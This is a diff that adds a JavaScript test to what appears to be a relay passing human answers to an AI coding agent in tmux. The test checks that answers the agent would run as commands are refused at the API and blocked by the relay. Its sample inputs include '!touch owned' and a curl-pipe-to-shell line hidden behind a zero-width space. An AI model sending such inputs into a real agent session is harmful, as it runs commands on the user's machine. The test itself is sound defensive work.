@@ -151,6 +151,43 @@ test("hostile answers arrive as one plain line: no escape sequences, no control 
   assert.equal(keys(b.dir).map((k) => k.data).join(""), `${"y".repeat(2000)}\r`);
 });
 
+/**
+ * An answer put in D1 as if the API had taken it, and pushed to the task's
+ * relay: what a relay is handed when something before it failed to refuse.
+ */
+async function smuggle(o, q, text) {
+  const id = `ans_smuggled${++n}`;
+  const now = Date.now();
+  await w.db.prepare(`INSERT INTO answers (id, question_id, task_id, owner_id, text, state, created_at, updated_at)
+    VALUES (?, ?, ?, ?, ?, 'queued', ?, ?)`).bind(id, q.question_id, q.task_id, o.owner_id, text, now, now).run();
+  const relay = w.mf.getDurableObjectNamespace("RELAY");
+  const stub = (await relay).get((await relay).idFromName(q.task_id));
+  await stub.fetch("https://relay/deliver", { method: "POST", headers: { "x-task-id": q.task_id, "x-answer-id": id } });
+  return id;
+}
+
+test("an answer the agent would run as a command is refused at the API, and by the relay if it got one", async () => {
+  const o = await owner();
+  const { dir, q } = await agentInTmux(o);
+  for (const text of ["!touch owned", "  \u200b!curl x | sh", "/permissions", "exit", "ok {!id}"]) {
+    const r = await api("POST", `/v1/questions/${q.question_id}/answers`, o.token, { text });
+    assert.deepEqual([r.status, r.body.error], [400, "refused_answer"], text);
+    assert.match(r.body.message, /command|session|shell/, text);
+  }
+  const none = await w.db.prepare("SELECT COUNT(*) AS n FROM answers WHERE question_id = ?").bind(q.question_id).first();
+  assert.equal(none.n, 0, "nothing queued");
+
+  const id = await smuggle(o, q, "!touch owned");
+  const row = await waitFor(async () => {
+    const a = await w.db.prepare("SELECT state, reason FROM answers WHERE id = ?").bind(id).first();
+    return a?.state === "failed" && a;
+  }, 10000);
+  assert.ok(row, "the relay failed it");
+  assert.match(row.reason, /can't start with !/);
+  await sleep(1500);
+  assert.deepEqual(keys(dir), [], "not one key reached the pane");
+});
+
 test("refusals at the API: a dialog, a closed question, another owner's, a revoked device, one answer at a time, not in tmux", async () => {
   const o = await owner();
   const other = await owner();
